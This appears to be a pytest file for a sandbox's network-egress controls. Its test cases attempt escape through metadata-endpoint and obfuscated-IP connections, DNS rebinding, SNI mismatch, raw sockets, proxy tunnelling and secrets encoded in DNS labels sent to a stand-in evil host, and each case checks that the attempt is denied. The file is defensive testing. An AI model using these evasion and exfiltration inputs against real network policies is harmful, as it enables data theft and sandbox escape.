"""What no rule names is reached by no way, and nobody outside hears of the attempt. Each attempt has a control: it succeeds
where a rule allows it, or where there is no wall."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any

import pytest
import pytest_asyncio

from dayfly import AsyncSandbox, Outcome
from dayfly.manager import Manager
from dayfly.manager.outlet import Outlet
from dayfly.network import Rule
from dayfly.policy import Policy
from dayfly.prove.internet import PUBLIC
from dayfly.testing.scripted import Asked
from dayfly.wire.messages import Cancel, Data, Event, Fail, Finish
from dayfly.wire.operations import STDIN
from tests.manager.house import Boundary, Images
from tests.network.world import EVIL, RULES, TCP, House, World, in_kernel

pytestmark = [pytest.mark.gvisor, pytest.mark.asyncio(loop_scope="session")]

CONTEXT = """
import ssl
context = ssl.create_default_context(cafile='ca.pem')
def spoken(peer, name):
    with context.wrap_socket(peer, server_hostname=name) as peer:
        peer.sendall(b'GET / HTTP/1.1\\r\\nhost: api.example.com\\r\\n\\r\\n')
        assert peer.recv(9) == b'HTTP/1.1 '
"""
"""A client's handshake is over before the server's: once it is answered, the server has seen it, too."""
SPEAK_TLS = CONTEXT + "spoken(connect('api.example.com', 443), sys.argv[1])\n"
CONNECT = f"assert echoed(connect(sys.argv[1], {TCP}))\n"


@dataclass
class Attempt:
    """Code that gets nowhere with ``tried`` as its arguments and succeeds with ``allowed``. ``codes``: what is denied for it, if
    anybody sees it."""

    code: str
    tried: tuple[str, ...]
    allowed: tuple[str, ...]
    codes: frozenset[str] = frozenset()
    answers: dict[str, list[list[str]]] = field(default_factory=dict)
    asked: frozenset[str] = frozenset()
    allowed_answers: dict[str, list[list[str]]] = field(default_factory=dict)


def inward(address: str, code: str = "private_address") -> Attempt:
    """A name that is listed leads where it must not."""
    name = "inward.example.com"
    return Attempt(
        CONNECT, (name,), (name,), frozenset({code}), {name: [[address]]}, frozenset({name}), {name: [[PUBLIC[0]]]}
    )  # fmt: skip


def unlisted(code: str, good: str, *more: str) -> Attempt:
    return Attempt(code, (EVIL, *more), (good, *more), frozenset({"not_listed"}))


ATTEMPTS = {
    "unlisted": unlisted(CONNECT, "raw.example.com"),
    "unlisted over http": unlisted(
        "import urllib.request as u\nu.urlopen(f'http://{sys.argv[1]}/').read()\n", "web.example.com"
    ),
    "the apex of a wildcard": Attempt(
        CONNECT, ("wild.example.com",), ("a.wild.example.com",), frozenset({"not_listed"})
    ),
    "two labels under a wildcard": Attempt(
        CONNECT, ("b.a.wild.example.com",), ("a.wild.example.com",), frozenset({"not_listed"})
    ),
    "a long label": Attempt(CONNECT, ("x" * 60 + f".{EVIL}",), ("raw.example.com",), frozenset({"not_listed"})),
    "another port": Attempt(
        f"assert echoed(connect('raw.example.com', {TCP}))\nconnect('raw.example.com', int(sys.argv[1]))\n",
        ("80",),
        (f"{TCP}",),
    ),
    **{
        f"the address {address}": Attempt(CONNECT, (address,), ("raw.example.com",))
        for address in (
            PUBLIC[0],
            PUBLIC[2],
            "1572395042",
            "0x5db8d822",
            "0135.0270.0330.042",
            "93.12113954",
            "[::ffff:93.184.216.34]",
            "169.254.169.254",
            "10.1.2.3",
            "127.64.200.7",
        )
    },
    "the name of another in the handshake": Attempt(
        SPEAK_TLS, (EVIL,), ("api.example.com",), frozenset({"sni_mismatch"}), asked=frozenset({"api.example.com"})
    ),
    "no name in the handshake": Attempt(
        CONTEXT + "context.check_hostname = False\n" + "spoken(connect('api.example.com', 443), sys.argv[1] or None)\n",
        ("",),
        ("api.example.com",),
        frozenset({"sni_mismatch"}),
        asked=frozenset({"api.example.com"}),
    ),
    "ssh on a tls port": Attempt(
        "peer = connect(sys.argv[1], int(sys.argv[2]))\n"
        "peer.sendall(b'SSH-2.0-OpenSSH_9.2\\r\\n')\nassert peer.recv(3) == b'SSH'\n",
        ("api.example.com", "443"),
        ("raw.example.com", f"{TCP}"),
        frozenset({"not_tls"}),
        asked=frozenset({"api.example.com"}),
    ),
    "http on a tls port": Attempt(
        "import urllib.request as u\nu.urlopen(f'http://{sys.argv[1]}/').read()\n",
        ("api.example.com:443",),
        ("web.example.com",),
        frozenset({"not_tls"}),
        asked=frozenset({"api.example.com"}),
    ),
    **{
        f"a name for {address}": inward(address)
        for address in ("127.0.0.1", "169.254.169.254", "10.1.2.3", "::1", "::ffff:10.1.2.3", "0.0.0.0")
    },
    "a private rule's name for another private address": Attempt(
        CONNECT,
        ("wiki.example.com",),
        ("wiki.example.com",),
        frozenset({"private_address"}),
        {"wiki.example.com": [["169.254.169.254"]]},
        frozenset({"wiki.example.com"}),
        {"wiki.example.com": [["10.1.2.3"]]},
    ),
    "a name that changes between two connections": Attempt(
        CONNECT + CONNECT,
        ("flip.example.com",),
        ("flip.example.com",),
        frozenset({"private_address"}),
        {"flip.example.com": [[PUBLIC[0]], ["169.254.169.254"]]},
        frozenset({"flip.example.com"}),
        {"flip.example.com": [[PUBLIC[0]], [PUBLIC[0]]]},
    ),
    "a raw socket": Attempt(
        "kind = {'raw': socket.SOCK_RAW, 'stream': socket.SOCK_STREAM}[sys.argv[1]]\n"
        "socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP if sys.argv[1] == 'raw' else 0)\n",
        ("raw",),
        ("stream",),
    ),
    "a packet socket": Attempt(
        "socket.socket(getattr(socket, sys.argv[1]), socket.SOCK_DGRAM)\n", ("AF_PACKET",), ("AF_INET",)
    ),
}

QUERY = """
def query(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.settimeout(5)
        asking.connect((server, 53))
        question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + bytes(1)
        asking.send(bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + question + bytes([0, 1, 0, 1]))
        answer = asking.recv(4096)
        return answer[3] & 15, answer[7]
"""

ATTEMPTS["another dns server"] = Attempt(
    QUERY + "assert query(sys.argv[1], 'web.example.com') == (0, 1)\n", (PUBLIC[0],), ("127.0.0.1",)
)
ATTEMPTS["dns over tcp elsewhere"] = Attempt("connect(sys.argv[1], 53, 5)\n", (PUBLIC[0],), ("127.0.0.1",))
ATTEMPTS["data in labels"] = Attempt(
    QUERY + "assert query('127.0.0.1', sys.argv[1])[1]\n",
    (f"{'secret' * 10}.{EVIL}",),
    ("a.wild.example.com",),
    frozenset({"not_listed"}),
)
ATTEMPTS["udp"] = Attempt(
    "asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "answering = socket.create_server(('127.0.0.1', 0)); answering.close()\n"
    "echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); echo.bind(('127.0.0.1', 443)); echo.settimeout(0.5)\n"
    "asking.sendto(b'an initial packet', (sys.argv[1], 443))\n"
    "assert echo.recv(100)\n",
    (PUBLIC[0],),
    ("127.0.0.1",),
)
ATTEMPTS["quic to a listed name"] = Attempt(
    "asking = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "asking.settimeout(0.5)\n"
    "asking.connect((sys.argv[1], int(sys.argv[2])))\n"
    "asking.send(bytes(12)); asking.send(bytes(12))\n"
    "assert asking.recv(100)\n",
    ("api.example.com", "443"),
    ("127.0.0.1", "53"),
)


PROXIED = """
def proxied(host, port):
    peer = connect("127.0.0.1", 3128)
    peer.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
    head = b""
    while not head.endswith(b"\\r\\n\\r\\n"): head += peer.recv(1) or sys.exit(1)
    assert head.split()[1] == b"200", head
    return peer
def socks(host, port):
    peer = connect("127.0.0.1", 1080)
    peer.sendall(b"\\5\\1\\0")
    assert peer.recv(2) == b"\\5\\0"
    try: where = b"\\1" + socket.inet_aton(socket.inet_ntoa(socket.inet_pton(socket.AF_INET, host)))
    except OSError: where = b"\\3" + bytes([len(host)]) + host.encode()
    peer.sendall(b"\\5\\1\\0" + where + port.to_bytes(2, "big"))
    assert peer.recv(10)[1] == 0
    return peer
"""

for ask in ("proxied", "socks"):
    code = f"{PROXIED}assert echoed({ask}(sys.argv[1], int(sys.argv[2])))\n"
    for what, place, denial in (
        ("an unlisted name", (EVIL, f"{TCP}"), "not_listed"),
        ("another port", ("raw.example.com", "22"), "port_not_listed"),
        ("an address", (PUBLIC[0], f"{TCP}"), "literal_address"),
        ("data in labels", (f"{'secret' * 10}.{EVIL}", "443"), "not_listed"),
    ):
        seen = frozenset({denial}) - ({"literal_address"} if ask == "socks" else set())  # refused inside
        ATTEMPTS[f"{what} by {ask}"] = Attempt(code, place, ("raw.example.com", f"{TCP}"), seen)
ATTEMPTS["a request to the proxy for one host with the name of another"] = Attempt(
    PROXIED + CONTEXT + "spoken(proxied('api.example.com', 443), sys.argv[1])\n",
    (EVIL,),
    ("api.example.com",),
    frozenset({"sni_mismatch"}),
    asked=frozenset({"api.example.com"}),
)


@pytest.mark.parametrize("name", ATTEMPTS)
async def test_gets_nowhere_and_nobody_hears_of_it(shared: AsyncSandbox, world: World, name: str) -> None:
    attempt = ATTEMPTS[name]
    world.names.table |= {host: list(answers) for host, answers in attempt.answers.items()}
    done = await in_kernel(shared, attempt.code, *attempt.tried)
    assert done.outcome is Outcome.ERROR, done
    assert {one.code for one in done.denied} == attempt.codes, done
    assert all(one.reason and one.remedy for one in done.denied), done
    assert set(world.names.asked) <= attempt.asked | {"raw.example.com"}
    assert not any(
        visit.said for place, canary in world.canaries.items() for visit in canary.visits if place[0] != PUBLIC[0]
    )
    assert world.visited() <= {(PUBLIC[0], 443), (PUBLIC[0], TCP)}


@pytest.mark.parametrize("name", ATTEMPTS)
async def test_succeeds_where_it_may(shared: AsyncSandbox, world: World, name: str) -> None:
    attempt = ATTEMPTS[name]
    world.names.table |= {host: list(answers) for host, answers in attempt.allowed_answers.items()}
    done = await in_kernel(shared, attempt.code, *attempt.allowed)
    assert done.ok, done.stderr
    assert done.denied == ()


# --- an agent that is not ours ------------------------------------------------------------------------------------------


class Cells:
    """Sandboxes whose agent is the test, over a real gateway."""

    def __init__(self, world: World, home: House) -> None:
        self.boundary = Boundary()
        boundaries, agent = {"gvisor": self.boundary}, world.certificate  # any file
        self.manager = Manager(boundaries, Images(), lambda image: agent, outlet=Outlet(home.start))  # type: ignore[arg-type]


@pytest_asyncio.fixture(loop_scope="session")
async def cells(world: World, home: House) -> AsyncIterator[Cells]:
    made = Cells(world, home)
    yield made
    await made.manager.close()


async def word(asked: Asked) -> Any:
    while True:
        message = await asyncio.wait_for(asked.arrived.get(), 10)
        if isinstance(message, (Data, Event, Fail, Finish)):
            return message


async def test_a_hostile_agent_gets_what_the_rules_allow_and_nothing_else(world: World, cells: Cells) -> None:
    life = await cells.manager.open(Policy(network=RULES))
    agent = cells.boundary.cells[life.id].agent
    places = [(EVIL, TCP), ("raw.example.com", 22), ("raw.example.com", 0), ("raw.example.com", -1), ("raw.example.com", 1 << 60),
              (PUBLIC[0], TCP), ("[::1]", TCP), ("1572395042", TCP), ("raw.example.com\0.evil.example.net", TCP), ("", TCP),
              ("x" * 60_000, TCP), ("user@raw.example.com", TCP), ("*.wild.example.com", TCP), (f"{'secret' * 9}.{EVIL}", 443)]  # fmt: skip
    for host, port in places:
        said = await word(await agent.open("tunnel", host=host, port=port))
        assert isinstance(said, Fail), (host, port)
        assert said.code == "denied", (host, port)
        assert said.message.isprintable()
    assert world.names.asked == []
    assert world.visited() == set()
    denied = life._inside.denials.since(0)
    assert sum(one.count for one in denied) == len(places)
    assert not any(one.claimed for one in denied)
    control = await agent.open("tunnel", host="raw.example.com", port=TCP)
    assert isinstance(await word(control), Event)
    await control.data(STDIN, b"hello")
    assert (await word(control)).data == b"hello"
    await control.send(Cancel())


async def test_one_sandboxs_rules_are_nobody_elses(world: World, cells: Cells) -> None:
    """Also when the other one's agent asks for them."""
    mine, other = [
        await cells.manager.open(Policy(network=(Rule(host=f"{name}.example.com", ports=[TCP], protocol="tcp"),)))
        for name in ("raw", "local")
    ]
    for life, allowed, denied in ((mine, "raw", "local"), (other, "local", "raw")):
        agent = cells.boundary.cells[life.id].agent
        assert isinstance(await word(await agent.open("tunnel", host=f"{allowed}.example.com", port=TCP)), Event)
        assert isinstance(await word(await agent.open("tunnel", host=f"{denied}.example.com", port=TCP)), Fail)
